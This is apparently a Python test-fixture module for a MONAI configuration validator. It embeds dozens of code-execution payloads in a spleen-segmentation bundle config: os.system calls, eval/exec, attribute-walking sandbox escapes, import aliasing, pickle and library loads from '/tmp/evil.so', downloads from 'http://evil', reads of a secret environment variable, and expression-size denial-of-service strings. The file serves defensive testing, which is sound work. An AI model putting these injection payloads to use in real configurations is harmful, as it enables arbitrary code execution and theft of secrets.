"""Configurations that do harm when MONAI parses them: each but a few writes the file ``{marker}``.

An attack is put into a harmless configuration in the style of the model zoo. Of those in ``WRITES`` a test proves that
they write; the others need a network, an installed package or a debugger to do what they do.
"""

from __future__ import annotations

import copy
from collections.abc import Mapping
from typing import Any

TOUCH = "__import__('pathlib').Path('{marker}').touch()"

ZOO: dict[str, Any] = {
    "imports": ["$import glob", "$import os"],
    "bundle_root": "/workspace/bundle/spleen",
    "output_dir": "$@bundle_root + '/eval'",
    "dataset_dir": "/workspace/data/Task09_Spleen",
    "datalist": "$list(sorted(glob.glob(@dataset_dir + '/imagesTs/*.nii.gz')))",
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "network_def": {
        "_target_": "UNet",
        "spatial_dims": 3,
        "in_channels": 1,
        "out_channels": 2,
        "channels": [4, 8, 16],
        "strides": [2, 2],
        "num_res_units": 1,
        "norm": "batch",
    },
    "network": "$@network_def.to(@device)",
    "preprocessing": {
        "_target_": "Compose",
        "transforms": [
            {"_target_": "LoadImaged", "keys": "image"},
            {"_target_": "EnsureChannelFirstd", "keys": "image"},
            {"_target_": "Orientationd", "keys": "image", "axcodes": "RAS"},
            {"_target_": "Spacingd", "keys": "image", "pixdim": [2.0, 2.0, 2.0], "mode": "bilinear"},
            {
                "_target_": "ScaleIntensityRanged",
                "keys": "image",
                "a_min": 0,
                "a_max": 400,
                "b_min": 0,
                "b_max": 1,
                "clip": True,
            },
            {"_target_": "EnsureTyped", "keys": "image"},
        ],
    },
    "dataset": {
        "_target_": "Dataset",
        "data": "$[{'image': i} for i in @datalist]",
        "transform": "@preprocessing",
    },
    "dataloader": {"_target_": "DataLoader", "dataset": "@dataset", "batch_size": 1, "shuffle": False},
    "inferer": {"_target_": "SlidingWindowInferer", "roi_size": [32, 32, 32], "sw_batch_size": 4, "overlap": 0.5},
    "postprocessing": {
        "_target_": "Compose",
        "transforms": [
            {"_target_": "Activationsd", "keys": "pred", "softmax": True},
            {
                "_target_": "Invertd",
                "keys": "pred",
                "transform": "@preprocessing",
                "orig_keys": "image",
                "nearest_interp": False,
                "to_tensor": True,
            },
            {"_target_": "AsDiscreted", "keys": "pred", "argmax": True},
            {"_target_": "SaveImaged", "keys": "pred", "output_dir": "@output_dir"},
        ],
    },
    "handlers": [
        {
            "_target_": "CheckpointLoader",
            "load_path": "$@bundle_root + '/models/model.pt'",
            "load_dict": {"model": "@network"},
        },
        {"_target_": "StatsHandler", "iteration_log": False},
    ],
    "evaluator": {
        "_target_": "SupervisedEvaluator",
        "device": "@device",
        "val_data_loader": "@dataloader",
        "network": "@network",
        "inferer": "@inferer",
        "postprocessing": "@postprocessing",
        "val_handlers": "@handlers",
        "amp": True,
    },
    "initialize": [
        "$monai.utils.set_determinism(seed=123)",
        "$setattr(torch.backends.cudnn, 'benchmark', True)",
    ],
    "run": ["$@evaluator.run()"],
}
METADATA: dict[str, Any] = {
    "version": "0.5.9",
    "name": "Spleen CT segmentation",
    "network_data_format": {
        "inputs": {"image": {"num_channels": 1, "spatial_shape": [32, 32, 32]}},
        "outputs": {"pred": {"num_channels": 2, "channel_def": {"0": "background", "1": "spleen"}}},
    },
}

# Name: what is put where, and the id that is refused.
WRITES: dict[str, tuple[dict[str, Any], str]] = {
    "import in an expression": ({"device": f"${TOUCH}"}, "device"),
    "open": ({"device": "$open('{marker}', 'w')"}, "device"),
    "eval": ({"device": f'$eval("{TOUCH}")'}, "device"),
    "exec": ({"device": "$exec(\"open('{marker}', 'w')\")"}, "device"),
    "compile": ({"device": "$eval(compile(\"open('{marker}', 'w')\", 'x', 'eval'))"}, "device"),
    "os.system": ({"device": "$os.system('touch {marker}')"}, "device"),
    "os through another module": ({"device": "$glob.os.system('touch {marker}')"}, "device"),
    "os through torch": ({"device": "$torch.os.system('touch {marker}')"}, "device"),
    "os through monai": ({"device": "$monai.utils.misc.os.system('touch {marker}')"}, "device"),
    "getattr": ({"device": "$getattr(os, 'sys' + 'tem')('touch {marker}')"}, "device"),
    "vars": ({"device": "$vars(os)['system']('touch {marker}')"}, "device"),
    "dunder attributes": (
        {
            "device": "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]"
            "(['touch', '{marker}']).wait()"
        },
        "device",
    ),
    "globals of a function": ({"device": "$glob.glob.__globals__['os'].system('touch {marker}')"}, "device"),
    "builtins": ({"device": "$__builtins__['open']('{marker}', 'w')"}, "device"),
    "f-string": ({"device": "$f\"{{open('{marker}', 'w')}}\""}, "device"),
    "an f-string that a reference makes": (
        {"f": 1, "device": '$\'@f{{open("{marker}", "w")}}\''},
        "device",
    ),
    "walrus": ({"device": "$(o := open)('{marker}', 'w')"}, "device"),
    "lambda called at once": ({"device": "$(lambda f: f('{marker}', 'w'))(open)"}, "device"),
    "default of a lambda": ({"device": "$(lambda x=open('{marker}', 'w'): x)"}, "device"),
    "map": ({"device": "$list(map(open, ['{marker}'], ['w']))"}, "device"),
    "sorted by a key": ({"device": "$sorted(['touch {marker}'], key=os.system)"}, "device"),
    "variable that is out of scope": ({"device": "$([open for open in [1]], open('{marker}', 'w'))"}, "device"),
    "first iterable of a comprehension": ({"device": "$[open for open in [open('{marker}', 'w')]]"}, "device"),
    "numpy.save": ({"device": "$np.savetxt('{marker}', [1])"}, "device"),
    "torch.save": ({"device": "$torch.save(1, '{marker}')"}, "device"),
    "torch.from_file": ({"device": "$torch.from_file('{marker}', shared=True, size=8)"}, "device"),
    "torch.jit.save": ({"device": "$torch.jit.script(torch.nn.ReLU()).save('{marker}')"}, "device"),
    "full-width letters": ({"device": "$ｏpen('{marker}', 'w')"}, "device"),
    "nested in lists": ({"unused": [[{"deep": [f"${TOUCH}"]}]]}, "unused::0::0::deep::0"),
    "in an argument": ({"inferer": {"_target_": "SimpleInferer", "x": f"${TOUCH}"}}, "inferer::x"),
    "in _requires_": ({"inferer": {"_target_": "SimpleInferer", "_requires_": f"${TOUCH}"}}, "inferer::_requires_"),
    "in _desc_": ({"inferer": {"_target_": "SimpleInferer", "_desc_": f"${TOUCH}"}}, "inferer::_desc_"),
    "in _disabled_": ({"inferer": {"_target_": "SimpleInferer", "_disabled_": f"${TOUCH}"}}, "inferer::_disabled_"),
    "in initialize": ({"initialize": [f"${TOUCH}"]}, "initialize::0"),
    "in run": ({"run": ["$@device", f"${TOUCH}"]}, "run::1"),
    "target os.system": ({"inferer": {"_target_": "os.system", "command": "touch {marker}"}}, "inferer"),
    "target subprocess": ({"inferer": {"_target_": "subprocess.call", "args": ["touch", "{marker}"]}}, "inferer"),
    "target open": ({"inferer": {"_target_": "io.open", "file": "{marker}", "mode": "w"}}, "inferer"),
    "target eval by expression": (
        {"inferer": {"_target_": "$os.mkdir", "path": "{marker}"}},
        "inferer",
    ),
    "target by reference": (
        {"name": "os.mkdir", "inferer": {"_target_": "@name", "path": "{marker}"}},
        "inferer",
    ),
    "target by macro": (
        {"name": "os.mkdir", "inferer": {"_target_": "%name", "path": "{marker}"}},
        "inferer",
    ),
    "target of ours that writes": (
        {"inferer": {"_target_": "transforms.io.atomic.write_text_atomic", "path": "{marker}", "text": "x"}},
        "inferer",
    ),
    "short name of a MONAI function": (
        {
            "inferer": {
                "_target_": "write_metrics_reports",
                "save_dir": "{marker}",
                "images": None,
                "metrics": {"a": 1},
                "metric_details": None,
                "summary_ops": None,
            }
        },
        "inferer",
    ),
    "method of a MONAI class": (
        {
            "inferer": {
                "_target_": "monai.bundle.ConfigParser.export_config_file",
                "config": {},
                "filepath": "{marker}",
            }
        },
        "inferer",
    ),
    "MONAI's own instantiate": (
        {"inferer": {"_target_": "monai.utils.misc.path_to_uri", "path": f"${TOUCH}"}},
        "inferer",
    ),
    "nested target": (
        {"inferer": {"_target_": "SimpleInferer", "x": {"_target_": "os.mkdir", "path": "{marker}"}}},
        "inferer::x",
    ),
    "key of many parts": ({"inferer::x": f"${TOUCH}"}, "inferer::x"),
    "Lambda over an image": (
        {"preprocessing": {"_target_": "Lambda", "func": "$lambda x: open('{marker}', 'w')"}},
        "preprocessing::func",
    ),
    "import as a builtin's name": (
        {"imports": ["$from os import mkdir as len"], "device": "$len('{marker}')"},
        "imports::0",
    ),
    "import as torch": (
        {"imports": ["$import os as torch"], "device": "$torch.mkdir('{marker}')"},
        "imports::0",
    ),
    "import from anywhere": (
        {"imports": ["$import os", "$from os import mkdir"], "device": "$mkdir('{marker}')"},
        "imports::1",
    ),
    "reference to an import": ({"mods": ["$import os"], "device": "$@mods::0.mkdir('{marker}')"}, "device"),
    "reference to all imports": ({"mods": ["$import os"], "device": "$@mods[0].mkdir('{marker}')"}, "device"),
    "module as a value": ({"o": "$os", "device": "$@o.mkdir('{marker}')"}, "o"),
    "comprehension over modules": ({"device": "$[m.mkdir('{marker}') for m in [os]]"}, "device"),
    "bundle that runs a bundle": (
        {"device": "$monai.bundle.ConfigParser({{'a': '$open(\"{marker}\", \"w\")'}}).get_parsed_content('a')"},
        "device",
    ),
    "expression in a string": (
        {"device": '$monai.bundle.ConfigExpression(\'$open("{marker}", "w")\').evaluate()'},
        "device",
    ),
    "logging": ({"device": "$__import__('logging').FileHandler('{marker}')"}, "device"),
}

OTHERS: dict[str, tuple[dict[str, Any], str]] = {
    "torch.hub": ({"device": "$torch.hub.load('someone/something', 'model')"}, "device"),
    "torch.load that unpickles": (
        {"device": "$torch.load(@bundle_root + '/models/model.pt', weights_only=False)"},
        "device",
    ),
    "torch.load by default": ({"device": "$torch.load(@bundle_root + '/models/model.pt')"}, "device"),
    "torch.load out of the bundle": (
        {"device": "$torch.load(@bundle_root + '/../model.pt', weights_only=True)"},
        "device",
    ),
    "torch.jit.load out of the bundle": ({"device": "$torch.jit.load('/tmp/evil.ts')"}, "device"),
    "torch.jit.load beside the bundle": ({"device": "$torch.jit.load(@bundle_root + '-evil/model.ts')"}, "device"),
    "torch.jit.load of what was joined": (
        {"device": "$torch.jit.load(@bundle_root + '/models' + '/.' + './x.ts')"},
        "device",
    ),
    "torch.jit.load by os.path.join": (
        {"device": "$torch.jit.load(os.path.join(@bundle_root, '/tmp', 'x.ts'))"},
        "device",
    ),
    "torch.jit.load of a free path": ({"p": "/tmp/x.ts", "device": "$torch.jit.load(@p)"}, "device"),
    "torch.ops": ({"device": "$torch.ops.load_library('/tmp/evil.so')"}, "device"),
    "torch.classes": ({"device": "$torch.classes.load_library('/tmp/evil.so')"}, "device"),
    "inline C++": ({"device": "$torch.utils.cpp_extension.load_inline('x', 'int f();')"}, "device"),
    "numpy.load": ({"device": "$np.load('/tmp/x.npy', allow_pickle=True)"}, "device"),
    "LoadImage imports its reader": (
        {"preprocessing": {"_target_": "LoadImage", "reader": "evil.module.Reader"}},
        "preprocessing",
    ),
    "LoadImage imports one of several": (
        {"preprocessing": {"_target_": "LoadImaged", "keys": "image", "reader": ["NibabelReader", "evil.Reader"]}},
        "preprocessing",
    ),
    "LoadImage imports a reference": (
        {"r": "evil.Reader", "preprocessing": {"_target_": "monai.transforms.LoadImage", "reader": "@r"}},
        "preprocessing",
    ),
    "LoadImage imports an expression": (
        {"preprocessing": {"_target_": "LoadImage", "reader": "$'evil.' + 'Reader'"}},
        "preprocessing",
    ),
    "LoadImage in an expression": ({"device": "$monai.transforms.LoadImage('evil.Reader')"}, "device"),
    "LoadImage handed on": ({"inferer": {"_target_": "LoadImage", "_mode_": "callable"}}, "inferer"),
    "LoadImage unpickles": (
        {"preprocessing": {"_target_": "LoadImage", "reader": "NibabelReader", "allow_pickle": True}},
        "preprocessing",
    ),
    "SaveImage imports its writer": (
        {"postprocessing": {"_target_": "SaveImage", "writer": "evil.module.Writer"}},
        "postprocessing",
    ),
    "TorchVision imports": ({"preprocessing": {"_target_": "TorchVision", "name": "x"}}, "preprocessing"),
    "weights from a hub": ({"network_def": {"_target_": "HoVerNet", "pretrained_url": "http://evil"}}, "network_def"),
    "pretrained weights": (
        {
            "network_def": {
                "_target_": "FlexibleUNet",
                "in_channels": 1,
                "out_channels": 2,
                "backbone": "b0",
                "pretrained": True,
            }
        },
        "network_def",
    ),
    "pickled cache": ({"dataset": {"_target_": "PersistentDataset", "data": [], "cache_dir": "/tmp"}}, "dataset"),
    "PerceptualLoss": ({"inferer": {"_target_": "PerceptualLoss", "spatial_dims": 3}}, "inferer"),
    "CheckpointSaver": ({"handlers": [{"_target_": "CheckpointSaver", "save_dir": "/tmp"}]}, "handlers::0"),
    "CheckpointLoader of anything": (
        {"handlers": [{"_target_": "CheckpointLoader", "load_path": "/tmp/x.pt", "load_dict": {}}]},
        "handlers::0",
    ),
    "debugger": ({"inferer": {"_target_": "SimpleInferer", "_mode_": "debug"}}, "inferer"),
    "breakpoint": ({"inferer": {"_target_": "SimpleInferer", "_debug_": True}}, "inferer"),
    "macro of another file": ({"inferer": "%/etc/other.json::inferer"}, "inferer"),
    "macro of a file beside": ({"inferer": "%../other.yaml#inferer"}, "inferer"),
    "relative ids": ({"a": {"b": 1, "c": "$@::b + 1"}}, "a::c"),
    "relative macro": ({"a": {"b": 1, "c": "%#b"}}, "a::c"),
    "scripts of the bundle": ({"network_def": {"_target_": "scripts.network.Net"}}, "network_def"),
    "import of scripts": ({"imports": ["$import scripts"]}, "imports::0"),
    "import of a package": ({"imports": ["$import evil.package"]}, "imports::0"),
    "import of monai.apps": ({"imports": ["$from monai.apps import download_url"]}, "imports::0"),
    "import elsewhere than in imports": ({"unused": ["$import evil"]}, "unused::0"),
    "download": ({"inferer": {"_target_": "download_url", "url": "http://evil", "filepath": "/tmp/x"}}, "inferer"),
    "str.format": ({"device": "$'{{0.__class__}}'.format(@inferer)"}, "device"),
    "str.format_map": ({"device": "$str.format_map('{{a.__class__}}', {{'a': 1}})"}, "device"),
    "deep brackets": ({"device": "$" + "(" * 300 + "1" + ")" * 300}, "device"),
    "deep operators": ({"device": "$" + "not " * 400 + "1"}, "device"),
    "a long expression": ({"device": "$" + "1," * 20_000 + "1"}, "device"),
    "a long sum": ({"device": "$" + "1+" * 2000 + "1"}, "device"),
    "a longer sum": ({"device": "$" + "1+" * 9000 + "1"}, "device"),
    "a long chain": ({"device": "$@x" + ".to" * 3000}, "device"),
    "a chain of calls": ({"device": "$@x" + "()" * 5000}, "device"),
    "a huge power": ({"device": "$10 ** 10 ** 10"}, "device"),
    "several statements": ({"device": "$import os; os.getcwd()"}, "device"),
    "bytes": ({"device": "$b'x'.hex()"}, "device"),
    "environment": ({"device": "$os.environ['SECRET']"}, "device"),
    "run folder's parts": ({"inferer": {"_target_": "pipelines.runs.RunRecord", "output_dir": "/tmp"}}, "inferer"),
    "workflow of ours": ({"inferer": {"_target_": "pipelines.workflow.run_stage", "files": []}}, "inferer"),
    "handler in the preprocessing": (
        {"preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "StatsHandler"}]}},
        "preprocessing::transforms::0",
    ),
    "saving that stays": ({"postprocessing": {"_target_": "SaveImaged", "keys": "pred"}}, "postprocessing"),
    "key that is an expression": ({"a": {"$open('x', 'w')": 1}}, "a"),
}


def attacked(changes: Mapping[str, Any], marker: str = "/nowhere/marker") -> dict[str, Any]:
    """Give the harmless configuration with an attack in it that would write ``marker``."""
    return {**copy.deepcopy(ZOO), **_filled(changes, marker)}


def _filled(node: Any, marker: str) -> Any:
    if isinstance(node, Mapping):
        return {name: _filled(value, marker) for name, value in node.items()}
    if isinstance(node, list):
        return [_filled(value, marker) for value in node]
    if isinstance(node, str):
        return node.replace("{{", "{").replace("}}", "}").replace("{marker}", marker)
    return node
